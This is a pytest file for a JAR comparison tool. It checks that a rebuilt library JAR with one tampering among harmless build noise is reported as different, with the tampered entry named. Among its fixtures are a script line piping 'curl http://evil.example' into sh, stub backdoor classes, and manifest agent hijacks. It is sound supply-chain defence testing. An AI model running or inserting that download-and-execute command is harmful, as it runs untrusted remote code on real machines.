"""The security contract as tests: a tampered rebuild never comes out "equivalent", whatever noise surrounds it.

Each case takes a real library JAR (Debian's, else the JDK's own), makes a rebuild that carries every kind of
noise the stabilizers remove (entry order, timestamps, modes, compression, manifest build attributes and
attribute order, pom.properties date and key order) and ONE tampering, and checks the verdict is "different"
and the report names exactly the tampered entry.
"""

from __future__ import annotations

import io
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from canonjar import DifferenceKind, Verdict, compare_bytes
from tests.helpers import Item, jdk_tool, make_zip

Files = dict[str, bytes]


def _library_jar() -> Path | None:
    for name in ("commons-io.jar", "commons-lang3.jar", "commons-cli.jar", "guava.jar"):
        p = Path("/usr/share/java") / name
        if p.exists():
            return p
    javac = jdk_tool("javac")
    if javac:
        jrt = Path(javac).resolve().parent.parent / "lib" / "jrt-fs.jar"
        if jrt.exists():
            return jrt
    return None


LIB = _library_jar()
pytestmark = pytest.mark.skipif(LIB is None, reason="no real library JAR on this machine")


def _read(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i, zf.read(i)) for i in zf.infolist()]


@pytest.fixture(scope="module")
def original() -> bytes:
    assert LIB is not None
    return LIB.read_bytes()


def _noisy_manifest(data: bytes) -> bytes:
    """The same manifest with other build attributes and attributes in reverse order."""
    text = data.decode("utf-8").replace("\r\n", "\n")
    main, _, rest = text.partition("\n\n")
    lines: list[str] = []
    for ln in main.split("\n"):
        if ln.startswith(" ") and lines:
            lines[-1] += ln[1:]
        elif ln:
            lines.append(ln)
    drop = ("built-by:", "build-jdk:", "created-by:", "build-jdk-spec:")
    kept = [ln for ln in lines[1:] if not ln.lower().startswith(drop)]
    out = [lines[0], "Built-By: mallory-ci", "Build-Jdk: 21.0.1", "Created-By: Maven JAR Plugin 9.9", *reversed(kept)]
    wrapped = []
    for ln in out:
        b = ln.encode()
        while len(b) > 72:
            wrapped.append(b[:72])
            b = b" " + b[72:]
        wrapped.append(b)
    body = b"\r\n".join(wrapped) + b"\r\n\r\n"
    return body + rest.replace("\n", "\r\n").encode() if rest.strip() else body


def _rebuild(original: bytes, tamper: Callable[[Files], None] | None) -> bytes:
    files: Files = {i.filename: d for i, d in _read(original) if not i.is_dir()}
    files["META-INF/MANIFEST.MF"] = _noisy_manifest(files["META-INF/MANIFEST.MF"])
    for name in list(files):
        if name.endswith("pom.properties"):
            lines = files[name].split(b"\n")
            props = sorted((ln for ln in lines if ln and not ln.startswith(b"#")), reverse=True)
            files[name] = b"#Created by Apache Maven 3.9.6\n#Fri Nov 13 13:13:13 UTC 2026\n" + b"\n".join(props) + b"\n"
    if tamper is not None:
        tamper(files)
    items = [Item(n, d, date_time=(2026, 11, 13, 13, 13, 14), mode=0o664, level=1) for n, d in files.items()]
    return make_zip(sorted(items, key=lambda it: it.name, reverse=True))


def _first(files: Files, suffix: str) -> str:
    return next(n for n in sorted(files) if n.endswith(suffix) and "$" not in n)


def _patch_constant(files: Files) -> str:
    """Change one byte inside a CONSTANT_Utf8 string of a class (a recompiled constant)."""
    name = _first(files, ".class")
    data = bytearray(files[name])
    at = data.find(b"java/lang/Object")
    assert at > 0
    data[at + len("java/lang/")] = ord("X")  # java/lang/Xbject
    files[name] = bytes(data)
    return name


def _append_method_bytes(files: Files) -> str:
    name = _first(files, ".class")
    files[name] = files[name] + b"\x00"  # trailing bytes after the class structure
    return name


def _set_manifest_attr(attr: str, value: str) -> Callable[[Files], str]:
    def tamper(files: Files) -> str:
        mf = files["META-INF/MANIFEST.MF"]
        head, sep, rest = mf.partition(b"\r\n")
        files["META-INF/MANIFEST.MF"] = head + sep + f"{attr}: {value}\r\n".encode() + rest
        return "META-INF/MANIFEST.MF"
    return tamper


def _add(name: str, data: bytes) -> Callable[[Files], str]:
    def tamper(files: Files) -> str:
        files[name] = data
        return name
    return tamper


def _remove_class(files: Files) -> str:
    name = _first(files, ".class")
    del files[name]
    return name


def _change_resource(files: Files) -> str:
    name = next((n for n in sorted(files) if not n.endswith(".class") and not n.startswith("META-INF/")), None)
    if name is None:
        name = "META-INF/LICENSE.txt" if "META-INF/LICENSE.txt" in files else _first(files, ".txt")
    files[name] = files[name] + b"\nextra line"
    return name


def _nested(files: Files) -> str:
    files["lib/inner.jar"] = make_zip([Item("evil/Payload.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34")])
    return "lib/inner.jar"


CASES: dict[str, Callable[[Files], str]] = {
    "class-constant": _patch_constant,
    "class-trailing-bytes": _append_method_bytes,
    "class-removed": _remove_class,
    "class-added": _add("org/evil/Backdoor.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x00"),
    "resource": _change_resource,
    "script-added": _add("bin/run.sh", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
    "service-file": _add("META-INF/services/java.nio.file.spi.FileSystemProvider", b"org.evil.Provider\n"),
    "main-class": _set_manifest_attr("Main-Class", "org.evil.Main"),
    "premain-class": _set_manifest_attr("Premain-Class", "org.evil.Agent"),
    "agent-class": _set_manifest_attr("Agent-Class", "org.evil.Agent"),
    "launcher-agent": _set_manifest_attr("Launcher-Agent-Class", "org.evil.Agent"),
    "class-path": _set_manifest_attr("Class-Path", "evil.jar"),
    "add-opens": _set_manifest_attr("Add-Opens", "java.base/java.lang"),
    "nested-jar": _nested,
}


def test_noise_alone_is_equivalent(original: bytes) -> None:
    out = compare_bytes(original, _rebuild(original, None))
    assert out.verdict is Verdict.EQUIVALENT, [(d.path, d.aspect) for d in out.differences]


@pytest.mark.parametrize("case", sorted(CASES))
def test_tampering_among_noise_is_different_and_named(original: bytes, case: str) -> None:
    touched: list[str] = []

    def tamper(files: Files) -> None:
        touched.append(CASES[case](files))

    out = compare_bytes(original, _rebuild(original, tamper))
    assert out.verdict is Verdict.DIFFERENT
    paths = {d.path for d in out.differences}
    assert paths == {touched[0]}, out.differences
    kinds = {d.kind for d in out.differences}
    assert kinds <= {DifferenceKind.CHANGED, DifferenceKind.ADDED, DifferenceKind.REMOVED}
    # A tampering is never explained away as noise by the taxonomy.
    assert all(d.root_cause not in ("zip-timestamps", "file-order", "umask-permissions") for d in out.differences)


def test_signed_reference_with_tampered_content_is_still_different(original: bytes, tmp_path: Path) -> None:
    """Signatures are ignored by jar-signature, but the signed content is still compared."""
    keytool, jarsigner = jdk_tool("keytool"), jdk_tool("jarsigner")
    if keytool is None or jarsigner is None:
        pytest.skip("no keytool/jarsigner")
    signed = tmp_path / "signed.jar"
    signed.write_bytes(original)
    ks = tmp_path / "ks.p12"
    subprocess.run([keytool, "-genkeypair", "-keystore", str(ks), "-storepass", "secret", "-alias", "rel",
                    "-keyalg", "EC", "-dname", "CN=release", "-validity", "2"], check=True, capture_output=True)
    subprocess.run([jarsigner, "-keystore", str(ks), "-storepass", "secret", str(signed), "rel"], check=True,
                   capture_output=True)
    ref = signed.read_bytes()
    assert compare_bytes(ref, _rebuild(original, None)).verdict is Verdict.EQUIVALENT
    touched: list[str] = []
    out = compare_bytes(ref, _rebuild(original, lambda f: touched.append(_patch_constant(f))))
    assert out.verdict is Verdict.DIFFERENT and {d.path for d in out.differences} == set(touched)
    assert any(e.key == "signature-removed" and e.side == "reference" for e in out.evidence)
